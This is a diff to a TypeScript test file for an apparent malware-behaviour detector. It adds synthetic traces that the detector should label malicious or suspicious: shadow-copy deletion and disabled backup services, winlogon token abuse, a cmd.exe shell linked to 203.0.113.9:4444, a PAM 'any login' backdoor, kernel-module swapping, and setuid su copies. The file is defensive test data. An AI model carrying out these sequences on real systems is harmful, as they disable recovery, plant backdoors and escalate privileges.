@@ -52,6 +52,24 @@ const CASES: Readonly<
         runs('vssadmin delete shadows /all /quiet'),
         ...tells('start', COPY_SERVICES),
       ],
+      'and were not to start before': [
+        ...COPY_SERVICES.map((name) => runs(`sc config ${name} start= disabled`)),
+        ...tells('stop', COPY_SERVICES),
+        ...tells('start', COPY_SERVICES),
+      ],
+      'and words about their start stand behind the end': [
+        ...tells('stop', COPY_SERVICES),
+        ...COPY_SERVICES.map((name) => runs(`cmd.exe /c exit & net start ${name}`)),
+      ],
+      'and fail to start': [
+        ...tells('stop', COPY_SERVICES),
+        ...COPY_SERVICES.map((name) => runs(`net start ${name}`, { exitCode: 2 })),
+      ],
+      'and stop once more by a call': [
+        ...tells('stop', COPY_SERVICES),
+        ...COPY_SERVICES.map((name) => runs(`net start ${name}`, { atMs: 10 })),
+        system(...COPY_SERVICES.map((what): SystemEvent => ({ kind: 'service', op: 'stop', what, atMs: 20 }))),
+      ],
       'and are not to start': [
         ...tells('stop', COPY_SERVICES),
         ...tells('start', COPY_SERVICES),
@@ -60,17 +78,66 @@ const CASES: Readonly<
     },
   ],
   'the rights of the log-on': [
-    { 'for a shell in sight': [winlogon, runs('C:\\Windows\\System32\\cmd.exe')] },
+    {
+      'for a shell in sight': [winlogon, runs('C:\\Windows\\System32\\cmd.exe')],
+      'for an order about the machine': [winlogon, runs('cmd /c takeown /f C:\\Windows\\Web /r')],
+    },
     {
       'for an order': [winlogon, runs('C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\a.bat')],
+      'for an order about what it brought': [
+        winlogon,
+        file('write', 'C:\\Program Files\\x\\h.bat'),
+        runs('cmd /c "C:\\Program Files\\x\\h.bat"'),
+      ],
+      'for an order from elsewhere': [winlogon, runs('cmd /c \\\\files.example\\a\\b.cmd')],
+      'for a shell, while somebody is spoken to': [
+        winlogon,
+        runs('C:\\Windows\\System32\\cmd.exe'),
+        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444 }] },
+      ],
+      'for itself, and a window in sight': [
+        system({
+          kind: 'privilege',
+          what: 'token of C:\\Windows\\system32\\winlogon.exe was taken on',
+          succeeded: true,
+        }),
+        runs('notepad.exe'),
+      ],
+      'for a program that is called like one of the machine': [
+        winlogon,
+        runs('cmd.exe', { image: 'C:\\Users\\u\\Downloads\\cmd.exe' }),
+      ],
       'out of sight': [winlogon, runs('C:\\Windows\\System32\\cmd.exe', { hidden: true })],
       'for what it brought': [winlogon, file('write', 'C:\\Windows\\System32\\cmd.exe'), runs('cmd.exe')],
       'for itself': [environment({ sample: 'C:\\Users\\u\\a.exe' }), winlogon, runs('a.exe')],
     },
   ],
   'a module for logins is enough': [
-    { 'for administrators who hold a key': [module, file('write', '/etc/pam.d/sudo', { start: enough })] },
     {
+      'for administrators who hold a key': [module, file('write', '/etc/pam.d/sudo', { start: enough })],
+      'and a package has it': [
+        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
+        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', { pid: 7 }),
+        file('rename', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', {
+          to: '/usr/lib/x86_64-linux-gnu/security/pam_key.so',
+          pid: 7,
+        }),
+        file('write', '/etc/pam.d/common-auth', { start: enough }),
+      ],
+    },
+    {
+      'and what is called like the package tool has it': [
+        file('write', '/usr/bin/dpkg'),
+        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
+        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 7 }),
+        file('write', '/etc/pam.d/common-auth', { start: enough }),
+      ],
+      'and takes the place of what a package has': [
+        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
+        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 7 }),
+        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 8 }),
+        file('write', '/etc/pam.d/common-auth', { start: enough }),
+      ],
       'for whoever comes over the network': [module, file('write', '/etc/pam.d/sshd', { start: enough })],
       'and looks old': [
         module,
@@ -108,6 +175,16 @@ const CASES: Readonly<
     { 'is tried': [...tries, runs('rmmod gfx_drm')] },
     {
       stays: tries,
+      'is exchanged for a new one': [runs('rmmod gfx_drm'), ...tries],
+      'is tried, and comes back': [...tries, runs('rmmod gfx_drm'), runs(`insmod ${built}`)],
+      'comes back by a call': [
+        file('write', built),
+        runs(`insmod ${built}`, { atMs: 1 }),
+        runs('rmmod gfx_drm', { atMs: 2 }),
+        system({ kind: 'kernel_module', what: built, atMs: 3 }),
+      ],
+      'does not go': [...tries, runs('rmmod gfx_drm', { exitCode: 1 })],
+      'stays, and there are words about its end': [...tries, runs('sh -c "false && rmmod gfx_drm"')],
       'stays, and another goes': [...tries, runs('rmmod usbhid')],
       'is hidden, and goes': [
         file('write', '/tmp/.x.ko'),
@@ -120,6 +197,16 @@ const CASES: Readonly<
     { 'of a whole system': [...tree, file('mode', '/tmp/build.a1/root/usr/bin/su', { mode: '04755' })] },
     {
       alone: door('/tmp/build.a1/root/usr/bin/su'),
+      'that is moved out of a whole system': [
+        ...tree,
+        file('mode', '/tmp/build.a1/root/usr/bin/su', { mode: '04755' }),
+        file('rename', '/tmp/build.a1/root/usr/bin/su', { to: '/var/tmp/su' }),
+      ],
+      'that got its rights under another name': [
+        file('write', '/tmp/.su.x1'),
+        file('mode', '/tmp/.su.x1', { mode: '04755' }),
+        file('rename', '/tmp/.su.x1', { to: '/tmp/su' }),
+      ],
       'beside a whole system': [...tree, ...door('/tmp/build.a1/s')],
       'that is a shell of it': [...tree, ...door('/tmp/build.a1/root/usr/bin/bash')],
       'that is a copy': [
@@ -134,9 +221,10 @@ const CASES: Readonly<
 for (const [what, [honest, attacks]] of Object.entries(CASES)) {
   for (const [name, parts] of [...Object.entries(honest), ...Object.entries(attacks)]) {
     const isAttack = parts === attacks[name]
-    test(`${isAttack ? 'convicted' : 'not convicted'}: ${what} ${name}`, () => {
+    test(`${isAttack ? 'convicted' : 'suspicious'}: ${what} ${name}`, () => {
       const { verdict } = analyzeTrace([trace(...parts)], { path: 'a', earlier: [] })
-      assert.equal(verdict?.label === 'malicious', isAttack, JSON.stringify(verdict?.reasons))
+      // An author could write the rest as well, and is not let off for it.
+      assert.equal(verdict?.label, isAttack ? 'malicious' : 'suspicious', JSON.stringify(verdict?.reasons))
     })
   }
 }
